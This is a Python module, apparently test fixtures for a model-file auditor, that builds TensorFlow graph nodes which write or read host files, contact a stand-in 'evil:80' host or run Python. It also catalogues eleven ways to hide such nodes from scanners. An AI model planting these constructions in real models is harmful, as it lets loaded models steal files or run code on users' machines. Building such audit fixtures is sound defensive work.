"""Hostile models, a class each: nodes that are hung on the output of an innocent graph. Made as protos, never run."""

from collections.abc import Callable, Sequence
from dataclasses import dataclass

from exportkit.protos import FunctionDef, GraphDef, MetaGraphDef, NodeDef, types_pb2

STRING, FLOAT, INT32, INT64, VARIANT, RESOURCE, BOOL = (
    types_pb2.DT_STRING,
    types_pb2.DT_FLOAT,
    types_pb2.DT_INT32,
    types_pb2.DT_INT64,
    types_pb2.DT_VARIANT,
    types_pb2.DT_RESOURCE,
    types_pb2.DT_BOOL,
)
READS, WRITES, NETWORK, PYTHON, CODE = "reads_host_files", "writes_host_files", "network", "python", "host_code"


@dataclass(frozen=True)
class Type:
    """A dtype as an attribute's value, which an int would not be."""

    number: int


def node(name, op, *inputs, **attributes) -> NodeDef:
    """A NodeDef; an attribute is a Type, str or bytes, bool, int, float, a list of strings, or a function's name as (name,)."""
    made = NodeDef(name=name, op=op, input=inputs)
    for key, value in attributes.items():
        attribute = made.attr[key]
        if isinstance(value, Type):
            attribute.type = value.number
        elif isinstance(value, str | bytes):
            attribute.s = value.encode() if isinstance(value, str) else value
        elif isinstance(value, bool):
            attribute.b = value
        elif isinstance(value, int):
            attribute.i = value
        elif isinstance(value, float):
            attribute.f = value
        elif isinstance(value, tuple):
            attribute.func.name = value[0]
        elif value and isinstance(value[0], Type):
            attribute.list.type.extend(t.number for t in value)
        else:
            attribute.list.s.extend(v.encode() if isinstance(v, str) else v for v in value)
            attribute.list.SetInParent()
    return made


def text(name, *values, scalar=True) -> NodeDef:
    """A Const of strings."""
    made = node(name, "Const", dtype=Type(STRING))
    tensor = made.attr["value"].tensor
    tensor.dtype = STRING
    tensor.string_val.extend(v.encode() if isinstance(v, str) else v for v in values)
    if not scalar:
        tensor.tensor_shape.dim.add().size = len(values)
    return made


def number(name, value, dtype=INT64) -> NodeDef:
    made = node(name, "Const", dtype=Type(dtype))
    tensor = made.attr["value"].tensor
    tensor.dtype = dtype
    (tensor.int_val if dtype == INT32 else tensor.int64_val).append(value)
    return made


@dataclass(frozen=True)
class Hostile:
    """A hostile class.

    Attributes:
        name: of the class.
        capability: what the audit has to find.
        nodes: target path → the nodes; the last of them is hung on the output.
    """

    name: str
    capability: str
    nodes: Callable[[str], Sequence[NodeDef]]

    def __str__(self):
        return self.name


CLASSES: list[Hostile] = []


def add(name, capability, nodes):
    CLASSES.append(Hostile(name, capability, nodes))


def writing(op, *inputs, **attributes):
    """Nodes of an op whose first input is the path."""
    return lambda path: [text("path", path), *_rest(inputs), node("evil", op, "path", *[i.name for i in inputs], **attributes)]


def _rest(inputs):
    return inputs


S, V, F, I64 = Type(STRING), Type(VARIANT), Type(FLOAT), Type(INT64)
EMPTY = text("empty", "")
NAMES = text("names", "a", scalar=False)
SLICES = text("slices", "", scalar=False)

# Files written

add("WriteFile", WRITES, writing("WriteFile", text("content", "pwned")))
add(
    "PrintV2 to a file",
    WRITES,
    lambda p: [text("content", "pwned"), node("evil", "PrintV2", "content", output_stream=f"file://{p}")],
)
add("SaveV2", WRITES, writing("SaveV2", NAMES, SLICES, text("content", "x"), dtypes=[S]))
add("Save", WRITES, writing("Save", NAMES, text("content", "x"), T=[S]))
add("SaveSlices", WRITES, writing("SaveSlices", NAMES, SLICES, text("content", "x"), T=[S]))
add(
    "MergeV2Checkpoints",
    WRITES,
    lambda p: [text("parts", p, scalar=False), text("to", p), node("evil", "MergeV2Checkpoints", "parts", "to")],
)


def summary(op, *names):
    """Nodes of a summary writer, and of an op that writes through it."""

    def nodes(path):
        made = [
            node("writer", "SummaryWriter", shared_name="w"),
            text("path", path),
            number("ten", 10, INT32),
            node("create", "CreateSummaryFileWriter", "writer", "path", "ten", "ten", "path"),
        ]
        return [*made, node("evil", op, "writer", *names, "^create")]

    return nodes


add(
    "CreateSummaryFileWriter",
    WRITES,
    lambda p: [
        node("writer", "SummaryWriter"),
        text("path", p),
        number("ten", 10, INT32),
        node("evil", "CreateSummaryFileWriter", "writer", "path", "ten", "ten", "path"),
    ],
)
add(
    "CreateSummaryDbWriter",
    WRITES,
    lambda p: [
        node("writer", "SummaryWriter"),
        text("path", p),
        node("evil", "CreateSummaryDbWriter", "writer", "path", "path", "path", "path"),
    ],
)
add("FlushSummaryWriter", WRITES, summary("FlushSummaryWriter"))
add("WriteRawProtoSummary", WRITES, summary("WriteRawProtoSummary", "ten", "path"))
add("WriteSummary", WRITES, summary("WriteSummary", "ten", "path", "path", "path"))
add("WriteScalarSummary", WRITES, summary("WriteScalarSummary", "ten", "path", "ten"))
add("WriteGraphSummary", WRITES, summary("WriteGraphSummary", "ten", "path"))
add("ImportEvent", WRITES, summary("ImportEvent", "path"))
add("CloseSummaryWriter", WRITES, summary("CloseSummaryWriter"))


def debug(op, scheme, **attributes):
    return lambda p: [text("content", "x"), node("evil", op, "content", T=S, debug_urls=[f"{scheme}://{p}"], **attributes)]


add("DebugIdentity to a file", WRITES, debug("DebugIdentity", "file"))
add("DebugIdentity to a host", NETWORK, debug("DebugIdentity", "grpc"))
add("DebugIdentityV2", WRITES, debug("DebugIdentityV2", "file", tfdbg_run_id="r"))
add("DebugIdentityV3", WRITES, debug("DebugIdentityV3", "file"))
add("DebugNanCount", WRITES, debug("DebugNanCount", "file"))
add("DebugNumericSummary", WRITES, debug("DebugNumericSummary", "file"))
add("DumpTensor", WRITES, lambda p: [text("content", "x"), node("evil", "DumpTensor", "content", T=S, log_dir_path=p)])
add("CalibrationStatisticsSaver", WRITES, lambda p: [node("evil", "CalibrationStatisticsSaver", output_file_path=p)])

# Datasets


def dataset(op, *rest, **attributes):
    """A dataset of the path, and what runs it."""

    def nodes(path):
        made = [text("path", path, scalar=False), *rest]
        made.append(node("data", op, "path", *[one.name for one in rest], **attributes))
        return [*made, node("evil", "DatasetToSingleElement", "data", output_types=[S])]

    return nodes


RANGE = [number("zero", 0), number("ten", 10), node("range", "RangeDataset", "zero", "ten", "ten", output_types=[I64])]


def behind_range(op, **attributes):
    """An op on a dataset and the path."""
    return lambda p: [
        *RANGE,
        text("path", p),
        node("data", op, "range", "path", output_types=[I64], **attributes),
        node("evil", "DatasetToSingleElement", "data", output_types=[I64]),
    ]


add("TextLineDataset", READS, dataset("TextLineDataset", EMPTY, number("buffer", 0)))
add("TFRecordDataset", READS, dataset("TFRecordDataset", EMPTY, number("buffer", 0)))
add("TFRecordDatasetV2", READS, dataset("TFRecordDatasetV2", EMPTY, number("buffer", 0), NAMES))
add("FixedLengthRecordDataset", READS, dataset("FixedLengthRecordDataset", *[number(n, 0) for n in ("a", "b", "c", "d")]))
add("CSVDataset", READS, dataset("CSVDataset", EMPTY))
add("SqlDataset", READS, dataset("SqlDataset", text("source", "/etc/x.db"), text("query", "ATTACH")))
add("LMDBDataset", READS, dataset("LMDBDataset"))
add("MatchingFilesDataset", READS, dataset("MatchingFilesDataset"))
add("CacheDataset in a file", WRITES, behind_range("CacheDataset"))
add("SnapshotDataset", WRITES, behind_range("SnapshotDataset"))
add("SaveDataset", WRITES, behind_range("SaveDatasetV2"))
add(
    "LoadDataset",
    READS,
    lambda p: [text("path", p), node("data", "LoadDataset", "path"), node("evil", "DatasetToSingleElement", "data")],
)
add(
    "DatasetToTFRecord", WRITES, lambda p: [*RANGE, text("path", p), node("evil", "DatasetToTFRecord", "range", "path", "path")]
)
add(
    "DataServiceDatasetV4",
    NETWORK,
    lambda p: [
        number("id", 1),
        text("address", "evil:80"),
        node("data", "DataServiceDatasetV4", "id", "address"),
        node("evil", "DatasetToSingleElement", "data"),
    ],
)
add(
    "RegisterDataset",
    NETWORK,
    lambda p: [*RANGE, text("address", "evil:80"), node("evil", "RegisterDataset", "range", "address")],
)


def hidden(*nodes):
    """A graph in a constant, which DatasetFromGraph runs."""
    inner = GraphDef(node=nodes)
    return [
        text("graph", inner.SerializeToString()),
        node("data", "DatasetFromGraph", "graph"),
        node("evil", "DatasetToSingleElement", "data", output_types=[S]),
    ]


add("a dataset graph that writes", WRITES, lambda p: hidden(*writing("WriteFile", text("content", "x"))(p)))
add(
    "a dataset graph made at run time",
    "unknown",
    lambda p: [
        text("a", "x"),
        text("b", "y"),
        node("graph", "StringJoin", "a", "b", N=2),
        *hidden()[1:],
    ],
)

# Files read

add("ReadFile", READS, writing("ReadFile"))
add("MatchingFiles", READS, writing("MatchingFiles"))
add("RestoreV2", READS, writing("RestoreV2", NAMES, SLICES, dtypes=[S]))
add("Restore", READS, writing("Restore", NAMES, dt=S))
add("RestoreSlice", READS, writing("RestoreSlice", NAMES, SLICES, dt=S))
add("ImmutableConst", READS, lambda p: [node("evil", "ImmutableConst", dtype=F, memory_region_name=p)])
add(
    "InitializeTableFromTextFileV2",
    READS,
    lambda p: [
        node("words", "HashTableV2", key_dtype=S, value_dtype=I64),
        text("place", p),
        text("dot", "."),
        node("path", "StringJoin", "place", "dot", N=2),
        node("evil", "InitializeTableFromTextFileV2", "words", "path", key_index=-2, value_index=-1),
    ],
)
add(
    "LoadAndRemapMatrix",
    READS,
    writing("LoadAndRemapMatrix", NAMES, number("rows", 0), number("columns", 0), number("none", 0)),
)
add("GenerateVocabRemapping", READS, lambda p: [text("path", p), node("evil", "GenerateVocabRemapping", "path", "path")])
add("RecordInput", READS, lambda p: [node("evil", "RecordInput", file_pattern=p)])
add("Skipgram", READS, lambda p: [node("evil", "Skipgram", filename=p, batch_size=1)])
add(
    "DecodeProtoV2 with a file",
    READS,
    lambda p: [text("bytes", ""), node("evil", "DecodeProtoV2", "bytes", descriptor_source=p)],
)


def reader(op):
    return lambda p: [
        text("path", p),
        node("reader", op),
        node("queue", "FIFOQueueV2", component_types=[S]),
        node("evil", "ReaderReadV2", "reader", "queue"),
    ]


for _op in ("WholeFileReaderV2", "TextLineReaderV2", "TFRecordReaderV2", "FixedLengthRecordReaderV2"):
    add(_op, READS, reader(_op))
add("LMDBReader", READS, lambda p: [node("reader", "LMDBReader"), node("evil", "ReaderRead", "reader", "reader")])

# Network, Python, host code, others

add("RpcClient", NETWORK, lambda p: [text("address", "evil:80"), node("evil", "RpcClient", "address", "address")])
add(
    "Rpc of older releases",
    "unknown",
    lambda p: [text("address", "evil:80"), node("evil", "Rpc", "address", "address", "address")],
)
add("_HostSend", NETWORK, lambda p: [text("content", "x"), node("evil", "_HostSend", "content", T=S, tensor_name="t")])
add("CollectiveReduceV2", NETWORK, lambda p: [number("n", 2, INT32), node("evil", "CollectiveReduceV2", "n", "n", "n", "n")])
add("ConfigureDistributedTPU", NETWORK, lambda p: [node("evil", "ConfigureDistributedTPU")])
add("RemoteCall", NETWORK, lambda p: [text("target", "/job:evil"), node("evil", "RemoteCall", "target", f=("none",))])
add("PyFunc", PYTHON, lambda p: [node("evil", "PyFunc", token="pyfunc_0", Tin=[], Tout=[F])])
add("PyFuncStateless", PYTHON, lambda p: [node("evil", "PyFuncStateless", token="pyfunc_0", Tin=[], Tout=[F])])
add("EagerPyFunc", PYTHON, lambda p: [node("evil", "EagerPyFunc", token="pyfunc_0", Tin=[], Tout=[F])])
add("XlaCustomCallV2", CODE, lambda p: [node("evil", "XlaCustomCallV2", call_target_name="xla_python_cpu_callback")])
add("XlaCallModule", CODE, lambda p: [node("evil", "XlaCallModule", module=b"ML\xefRcustom_call")])
add("FileSystemSetConfiguration", CODE, lambda p: [text("s", "s3"), node("evil", "FileSystemSetConfiguration", "s", "s", "s")])
add("an op of a custom library", "unknown", lambda p: [node("evil", "AcmeDecrypt", "x")])
add("Abort", "aborts", lambda p: [node("evil", "Abort", error_msg="bye")])

# Ways to hide nodes


def function(name, nodes, *, calls=()) -> FunctionDef:
    """A library function of `nodes`; edges between them are those of function bodies."""
    made = FunctionDef()
    made.signature.name = name
    names = {one.name for one in nodes}
    for one in nodes:
        copy = made.node_def.add()
        copy.CopyFrom(one)
        copy.input[:] = [f"{i}:output:0" if i in names else i for i in one.input if i in names or i[0] == "^"]
    made.node_def.extend(calls)
    return made


def in_function(meta, nodes):
    meta.graph_def.library.function.append(function("f", nodes))
    return [node("evil_call", "StatefulPartitionedCall", f=("f",), Tin=[], Tout=[])]


def in_nested_functions(meta, nodes):
    meta.graph_def.library.function.append(function("h", nodes))
    meta.graph_def.library.function.append(function("g", [], calls=[node("call_h", "PartitionedCall", f=("h",))]))
    meta.graph_def.library.function.append(function("f", [], calls=[node("call_g", "g")]))
    return [node("evil_call", "StatefulPartitionedCall", f=("f",), Tin=[], Tout=[])]


def in_a_branch(meta, nodes):
    meta.graph_def.library.function.append(function("t", nodes))
    meta.graph_def.library.function.append(function("e", []))
    return [
        number("which", 0, INT32),
        node("evil_call", "StatelessIf", "which", then_branch=("t",), else_branch=("e",), Tcond=Type(INT32), Tin=[], Tout=[]),
    ]


def in_a_gradient(meta, nodes):
    meta.graph_def.library.function.append(function("g", nodes))
    meta.graph_def.library.function.append(function("f", []))
    meta.graph_def.library.gradient.add(function_name="f", gradient_func="g")
    return [node("evil_call", "SymbolicGradient", f=("f",), Tin=[], Tout=[])]


def in_a_nested_attribute(meta, nodes):
    meta.graph_def.library.function.append(function("g", nodes))
    meta.graph_def.library.function.append(function("f", []))
    call = node("evil_call", "StatefulPartitionedCall", f=("f",), Tin=[], Tout=[])
    call.attr["f"].func.attr["inner"].func.name = "g"
    return [call]


def named_in_a_string(meta, nodes):
    meta.graph_def.library.function.append(function("g", nodes))
    return [node("evil_call", "NoOp", shape_inference_graph="g")]


def in_a_dataset_graph(meta, nodes):
    return hidden(*nodes)


def in_a_string_list(meta, nodes):
    """As TensorProto.tensor_content, which strings are seldom in."""
    data = GraphDef(node=nodes).SerializeToString()
    graph = node("graph", "Const", dtype=S)
    tensor = graph.attr["value"].tensor
    tensor.dtype = STRING
    length, size = bytearray(), len(data)
    while size > 127:
        length.append(size & 127 | 128)
        size >>= 7
    tensor.tensor_content = bytes([*length, size]) + data
    return [graph, *hidden()[1:]]


def in_two_graphs(meta, nodes):
    return hidden(*hidden(*nodes))


def in_an_attribute(meta, nodes):
    return [node("evil_call", "NoOp", segment=GraphDef(node=nodes).SerializeToString())]


def behind_a_control_edge(meta, nodes):
    return [*nodes, node("evil_call", "NoOp", f"^{nodes[-1].name}")]


HIDING = (
    in_function,
    in_nested_functions,
    in_a_branch,
    in_a_gradient,
    in_a_nested_attribute,
    named_in_a_string,
    in_a_dataset_graph,
    in_a_string_list,
    in_two_graphs,
    in_an_attribute,
    behind_a_control_edge,
)


def hang(meta: MetaGraphDef, nodes: Sequence[NodeDef], output: str) -> MetaGraphDef:
    """Add nodes to a graph, the last of them before its node `output`, and describe their ops."""
    from tensorflow.python.framework import op_def_registry

    for one in nodes:
        copy = meta.graph_def.node.add()
        copy.CopyFrom(one)
    next(one for one in meta.graph_def.node if one.name == output).input.append(f"^{nodes[-1].name}")
    described = {op.name for op in meta.meta_info_def.stripped_op_list.op}
    bodies = (one for f in meta.graph_def.library.function for one in f.node_def)
    for op in sorted({one.op for one in (*meta.graph_def.node, *bodies)} - described):
        if (definition := op_def_registry.get(op)) is not None:
            meta.meta_info_def.stripped_op_list.op.add().ParseFromString(definition.SerializeToString())
        else:
            meta.meta_info_def.stripped_op_list.op.add(name=op)
    return meta
